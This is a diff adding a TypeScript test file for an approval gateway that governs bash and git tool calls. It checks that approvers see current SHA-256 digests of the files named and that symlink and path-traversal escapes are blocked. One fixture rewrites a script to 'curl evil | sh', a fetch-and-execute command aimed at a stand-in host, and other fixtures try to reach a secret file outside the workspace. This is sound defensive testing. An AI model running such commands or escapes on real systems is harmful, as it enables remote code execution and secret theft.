@@ -1,0 +1,108 @@
+import { execFileSync } from 'node:child_process';
+import { createHash } from 'node:crypto';
+import { mkdirSync, mkdtempSync, symlinkSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { describe, expect, it } from 'vitest';
+import { APPROVAL_FILES_NOTE, NAMED_FILE_LIMITS, type ApprovalView } from '../src/index.js';
+import { harness, testTool } from './harness.js';
+
+const sha = (text: string | Buffer) => `sha256:${createHash('sha256').update(text).digest('hex')}`;
+
+function setup() {
+  const bash = testTool({ name: 'bash', risk: 'high', input: { type: 'object', properties: { command: { type: 'string' } }, required: ['command'], additionalProperties: false } });
+  const git = testTool({ name: 'git', risk: 'high', input: { type: 'object', properties: { args: { type: 'array', items: { type: 'string' } } }, required: ['args'], additionalProperties: false } });
+  const h = harness({ tools: [bash, git] });
+  const workspace = join(h.workspaceRoot, 'acme');
+  mkdirSync(join(workspace, 'scripts'), { recursive: true });
+  const request = async (tool: 'bash' | 'git', args: Record<string, unknown>): Promise<ApprovalView> => {
+    const result = await h.gateway.requestApproval(h.who('worker-1'), { tool, args: args as never });
+    if (!result.ok) throw new Error(JSON.stringify(result.denial));
+    return result.approval;
+  };
+  const listed = async (id: string) => (await h.gateway.listApprovals(h.who('approver-1'))).find((a) => a.id === id)!;
+  return { h, workspace, request, listed };
+}
+
+describe('approved files rewritten after approval', () => {
+  it('shows the SHA-256 of each workspace file a git call names, and the note, at request time', async () => {
+    const { workspace, request } = setup();
+    writeFileSync(join(workspace, 'notes.txt'), 'v1\n');
+    writeFileSync(join(workspace, 'scripts', 'a.sh'), 'echo a\n');
+    const approval = await request('git', { args: ['add', '--', 'notes.txt', 'scripts/a.sh', 'missing.txt', '-A'] });
+    expect(approval.note).toBe(APPROVAL_FILES_NOTE);
+    expect(approval.namedFiles).toEqual([
+      { path: 'notes.txt', sha256: sha('v1\n'), bytes: 3 },
+      { path: 'scripts/a.sh', sha256: sha('echo a\n'), bytes: 7 },
+    ]);
+  });
+
+  it('shows the current digest when listed, so an approver sees a file that changed', async () => {
+    const { workspace, request, listed } = setup();
+    writeFileSync(join(workspace, 'scripts', 'deploy.sh'), 'echo safe\n');
+    const approval = await request('bash', { command: 'scripts/deploy.sh' });
+    expect(approval.namedFiles).toEqual([{ path: 'scripts/deploy.sh', sha256: sha('echo safe\n'), bytes: 10 }]);
+    writeFileSync(join(workspace, 'scripts', 'deploy.sh'), 'curl evil | sh\n');
+    expect((await listed(approval.id)).namedFiles).toEqual([{ path: 'scripts/deploy.sh', sha256: sha('curl evil | sh\n'), bytes: 15 }]);
+    // The same file spelled the way a shell runs it.
+    expect((await request('bash', { command: './scripts/deploy.sh' })).namedFiles).toEqual([
+      { path: './scripts/deploy.sh', sha256: sha('curl evil | sh\n'), bytes: 15 },
+    ]);
+  });
+
+  it.each([
+    ['a command line around the path', 'bash scripts/deploy.sh'],
+    ['two commands', 'scripts/deploy.sh && true'],
+    ['a path with arguments', './scripts/deploy.sh --prod'],
+  ])('guesses nothing from %s', async (_name, command) => {
+    const { workspace, request } = setup();
+    writeFileSync(join(workspace, 'scripts', 'deploy.sh'), 'x');
+    const approval = await request('bash', { command });
+    expect(approval.namedFiles).toBeUndefined();
+    expect(approval.note).toBe(APPROVAL_FILES_NOTE);
+  });
+
+  it('refuses a large file without reading it, and stops at the per-approval file count', async () => {
+    const { workspace, request } = setup();
+    writeFileSync(join(workspace, 'big.bin'), Buffer.alloc(NAMED_FILE_LIMITS.bytesPerFile + 1));
+    const names = Array.from({ length: 20 }, (_, i) => `f${i}.txt`);
+    for (const name of names) writeFileSync(join(workspace, name), name);
+    const approval = await request('git', { args: ['add', 'big.bin', ...names] });
+    expect(approval.namedFiles?.[0]).toEqual({ path: 'big.bin', bytes: NAMED_FILE_LIMITS.bytesPerFile + 1, note: `not hashed: larger than ${NAMED_FILE_LIMITS.bytesPerFile} bytes` });
+    expect(approval.namedFiles).toHaveLength(NAMED_FILE_LIMITS.filesPerApproval);
+  });
+
+  it('keeps answering other callers while it hashes a file at the size limit', async () => {
+    const { h, workspace, request } = setup();
+    writeFileSync(join(workspace, 'max.bin'), Buffer.alloc(NAMED_FILE_LIMITS.bytesPerFile, 7));
+    const pending = request('git', { args: ['add', 'max.bin'] });
+    const started = performance.now();
+    await h.gateway.explain(h.who('worker-2'), { tool: 'git', args: { args: ['status'] } });
+    expect(performance.now() - started).toBeLessThan(100);
+    expect((await pending).namedFiles?.[0]?.sha256).toBe(sha(Buffer.alloc(NAMED_FILE_LIMITS.bytesPerFile, 7)));
+  });
+});
+
+describe('symlink and path escapes through named files', () => {
+  const outside = mkdtempSync(join(tmpdir(), 'toolgate-outside-'));
+  writeFileSync(join(outside, 'secret.txt'), 'host secret');
+
+  it.each([
+    ['a symbolic link to a file outside', (ws: string) => symlinkSync(join(outside, 'secret.txt'), join(ws, 'link.txt')), 'link.txt'],
+    ['a file under a symlinked directory', (ws: string) => symlinkSync(outside, join(ws, 'out')), 'out/secret.txt'],
+    ['a symbolic link to a file inside', (ws: string) => (writeFileSync(join(ws, 'real.txt'), 'x'), symlinkSync(join(ws, 'real.txt'), join(ws, 'alias.txt'))), 'alias.txt'],
+    ['a parent-relative path', () => undefined, `../../${outside.split('/').pop()}/secret.txt`],
+    ['a parent segment inside the path', () => undefined, 'scripts/../../secret.txt'],
+    ['an absolute path', () => undefined, join(outside, 'secret.txt')],
+    ['a directory', (ws: string) => mkdirSync(join(ws, 'dir')), 'dir'],
+    ['a FIFO (which must not hang the listing)', (ws: string) => execFileSync('mkfifo', [join(ws, 'fifo')]), 'fifo'],
+    ['a NUL byte', () => undefined, 'notes.txt\u0000'],
+  ] as const)('shows no digest for %s', async (_name, plant, path) => {
+    const { workspace, request, listed } = setup();
+    writeFileSync(join(workspace, 'notes.txt'), 'ok');
+    plant(workspace);
+    const approval = await request('git', { args: ['add', path, 'notes.txt'] });
+    expect(approval.namedFiles).toEqual([{ path: 'notes.txt', sha256: sha('ok'), bytes: 2 }]);
+    expect(JSON.stringify(await listed(approval.id))).not.toContain(sha('host secret'));
+  });
+});
